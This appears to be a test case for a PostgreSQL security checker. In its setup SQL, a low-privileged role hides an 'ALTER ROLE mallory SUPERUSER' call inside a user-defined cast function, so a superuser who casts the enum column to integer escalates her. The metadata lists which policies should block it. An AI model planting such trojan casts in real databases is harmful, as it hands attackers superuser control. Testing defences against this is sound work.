/*---
title: A user-defined cast runs its function as the caller
pattern: "CREATE CAST … WITH FUNCTION: whoever writes the cast runs the cast function's owner's code"
description: >
  mallory owns an enum type mallory.grade and a cast from it to integer implemented by her function.
  alice, a superuser, computes an average over mallory's review table and casts the grades to
  integer: the cast function runs with alice's rights and makes mallory a superuser.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: cast, object: (mallory.grade AS pg_catalog.int4), owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: cast, object: (mallory.grade AS pg_catalog.int4), owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: cast, object: (mallory.grade AS pg_catalog.int4), owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: cast, object: (mallory.grade AS pg_catalog.int4), owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: cast, object: (mallory.grade AS pg_catalog.int4), owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: cast, object: (mallory.grade AS pg_catalog.int4), owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: cast, object: (mallory.grade AS pg_catalog.int4), owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.f_escalate() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    ALTER ROLE mallory SUPERUSER;
    RETURN 1;
EXCEPTION WHEN insufficient_privilege THEN
    RETURN 0;
END $$;
CREATE TYPE mallory.grade AS ENUM ('poor', 'fair', 'good', 'excellent');
CREATE FUNCTION mallory.grade_points(g mallory.grade) RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    PERFORM mallory.f_escalate();
    RETURN array_position(enum_range(NULL::mallory.grade), g);
END $$;
CREATE CAST (mallory.grade AS integer) WITH FUNCTION mallory.grade_points(mallory.grade);
CREATE TABLE mallory.reviews(id integer, rating mallory.grade);
INSERT INTO mallory.reviews VALUES (1, 'good'), (2, 'excellent'), (3, 'fair');
GRANT SELECT ON mallory.reviews TO PUBLIC;
RESET ROLE;

-- @step alice
SELECT avg(rating::integer) FROM mallory.reviews;
